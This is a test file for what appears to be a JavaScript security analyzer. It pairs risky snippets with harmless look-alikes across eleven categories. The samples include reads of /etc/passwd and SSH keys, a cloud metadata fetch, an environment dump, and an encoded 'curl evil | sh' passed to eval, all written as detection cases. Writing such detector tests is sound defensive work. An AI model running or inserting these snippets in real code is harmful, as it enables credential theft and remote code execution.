import { describe, expect, it } from "vitest";
import { analyze } from "../src/index.js";
import { categories, finding, rules } from "./helpers.js";

/** [category, rule, code that must trigger it, similar code that must not]. */
const CASES: [string, string, string, string][] = [
  [
    "command-execution",
    "child-process-call",
    `require("child_process").execSync("id")`,
    `require("path").join("a", "b")`,
  ],
  [
    "command-execution",
    "child-process-import",
    `import { spawn } from "node:child_process";`,
    `import { join } from "node:path";`,
  ],
  [
    "command-execution",
    "process-binding",
    `process.binding("spawn_sync")`,
    `process.nextTick(() => {})`,
  ],
  ["code-injection", "eval-call", `eval(userInput)`, `evaluate(userInput)`],
  ["code-injection", "function-constructor", `new Function("a", body)`, `new Map([["a", 1]])`],
  ["code-injection", "function-constructor", `Function(body)()`, `fn(body)()`],
  ["code-injection", "string-timer", `setTimeout("doIt()", 10)`, `setTimeout(() => doIt(), 10)`],
  [
    "code-injection",
    "vm-call",
    `const vm = require("vm"); vm.runInNewContext(code, {})`,
    `const v = require("util"); v.inspect(code)`,
  ],
  ["filesystem", "fs-write", `require("fs").writeFileSync(p, "x")`, `require("path").basename(p)`],
  [
    "filesystem",
    "fs-delete",
    `import { rmSync } from "fs"; rmSync(dir, { recursive: true })`,
    `import { resolve } from "path"; resolve(dir)`,
  ],
  ["filesystem", "sensitive-path", `read("/etc/passwd")`, `read("/tmp/data.txt")`],
  [
    "filesystem",
    "sensitive-path",
    "const k = `${home}/.ssh/id_rsa`",
    "const k = `${home}/docs/a.txt`",
  ],
  ["network", "fetch-call", `await fetch(url)`, `await fetchLocal(url)`],
  ["network", "http-import", `const http = require("http");`, `const util = require("util");`],
  ["network", "raw-socket", `require("net").connect(22, host)`, `require("events").once(e, "x")`],
  [
    "network",
    "raw-socket",
    `import dgram from "dgram"; dgram.createSocket("udp4")`,
    `import ev from "events"; ev.once(a, "x")`,
  ],
  ["network", "websocket", `new WebSocket("wss://example.com")`, `new URL("wss://example.com")`],
  ["network", "private-ip", `connect("192.168.1.10")`, `connect("version 1.2.3")`],
  ["network", "ip-literal", `connect("8.8.8.8")`, `connect("example.com")`],
  [
    "network",
    "metadata-address",
    `fetch("http://169.254.169.254/latest/meta-data/")`,
    `fetch("https://example.com/meta")`,
  ],
  [
    "prototype-pollution",
    "proto-write",
    `obj.__proto__.isAdmin = true`,
    `obj.proto.isAdmin = true`,
  ],
  [
    "prototype-pollution",
    "constructor-prototype-write",
    `x.constructor.prototype.toString = f`,
    `x.prototype.toString = f`,
  ],
  [
    "prototype-pollution",
    "builtin-prototype-write",
    `Object.prototype.polluted = 1`,
    `Foo.prototype.ok = 1`,
  ],
  [
    "prototype-pollution",
    "builtin-setprototypeof",
    `Object.setPrototypeOf(Array.prototype, evil)`,
    `Object.setPrototypeOf(mine, base)`,
  ],
  ["module-loading", "dynamic-require", `require(name)`, `require("lodash")`],
  ["module-loading", "dynamic-import", `await import(name)`, `await import("./local.js")`],
  ["module-loading", "module-constructor", `module.constructor._load("x")`, `module.exports = {}`],
  ["module-loading", "main-module", `process.mainModule.require("fs")`, `process.platform`],
  ["environment", "env-secret", `const t = process.env.GITHUB_TOKEN`, `const t = process.version`],
  ["environment", "env-read", `const h = process.env.HOME`, `const h = process.argv`],
  [
    "environment",
    "env-all",
    `send(JSON.stringify(process.env))`,
    `send(JSON.stringify(process.versions))`,
  ],
  ["buffer-abuse", "buffer-alloc-unsafe", `Buffer.allocUnsafe(1 << 20)`, `Buffer.alloc(1 << 20)`],
  ["buffer-abuse", "shared-array-buffer", `new SharedArrayBuffer(1024)`, `new ArrayBuffer(1024)`],
  ["buffer-abuse", "atomics-wait", `Atomics.wait(i32, 0, 0)`, `Atomics.load(i32, 0)`],
  ["timers", "zero-interval", `setInterval(tick, 0)`, `setInterval(tick, 1000)`],
  ["timers", "timer-in-loop", `while (true) { setTimeout(spin, 0) }`, `setTimeout(spin, 0)`],
  [
    "webassembly",
    "wasm-compile",
    `await WebAssembly.instantiate(bytes)`,
    `await Promise.resolve(bytes)`,
  ],
  ["webassembly", "wasm-compile", `new WebAssembly.Module(bytes)`, `new Uint8Array(bytes)`],
  ["encoding", "decoded-eval", `eval(atob(payload))`, `console.log(atob(payload))`],
  [
    "encoding",
    "decoded-eval",
    `eval(Buffer.from(p, "base64").toString())`,
    `log(Buffer.from(p, "base64").toString())`,
  ],
  [
    "encoding",
    "obfuscated-name",
    `const n = String.fromCharCode(101, 118, 97, 108)`,
    `const n = String.fromCharCode(104, 105)`,
  ],
  ["encoding", "escaped-name", `const n = "\\x65\\x76\\x61\\x6c"`, `const n = "\\x68\\x69"`],
  [
    "encoding",
    "long-string",
    `const blob = "${"A".repeat(30_000)}"`,
    `const blob = "${"A".repeat(1_000)}"`,
  ],
];

describe("each category is detected, and a look-alike is not", () => {
  for (const [category, rule, bad, good] of CASES) {
    it(`${category}/${rule}: ${bad.slice(0, 60)}`, () => {
      const f = finding(bad, rule);
      expect(f.category).toBe(category);
      expect(rules(analyze(good), rule)).toEqual([]);
    });
  }

  it("covers all eleven categories", () => {
    expect(new Set(CASES.map((c) => c[0])).size).toBe(11);
  });
});

describe("severity follows intent", () => {
  it("reading a secret-looking variable is worse than reading HOME", () => {
    expect(finding(`process.env.API_KEY`, "env-secret").severity).toBe("high");
    expect(finding(`process.env.HOME`, "env-read").severity).toBe("low");
  });

  it("eval of arbitrary input is critical; of a constant string, high, and its content is analysed", () => {
    expect(finding(`eval(x)`, "eval-call").severity).toBe("critical");
    const result = analyze(`eval("require('child_process').exec('id')")`);
    expect(rules(result, "eval-call")[0]?.severity).toBe("high");
    const inner = rules(result, "child-process-call")[0];
    expect(inner?.message).toMatch(/^in code run by eval: /);
    expect([inner?.line, inner?.column]).toEqual([1, 1]);
  });

  it("base64 fed to eval is decoded and analysed", () => {
    const payload = Buffer.from(`require("child_process").execSync("curl evil | sh")`).toString(
      "base64",
    );
    const result = analyze(`eval(atob("${payload}"))`);
    expect(result.level).toBe("critical");
    expect(rules(result, "decoded-eval")).toHaveLength(1);
    expect(rules(result, "child-process-call")).toHaveLength(1);
  });

  it("an extended-tier handler that only fetches stays in the network category", () => {
    expect(
      categories(`const r = await fetch("https://api.example.com"); return r.json();`),
    ).toEqual(new Set(["network"]));
  });
});
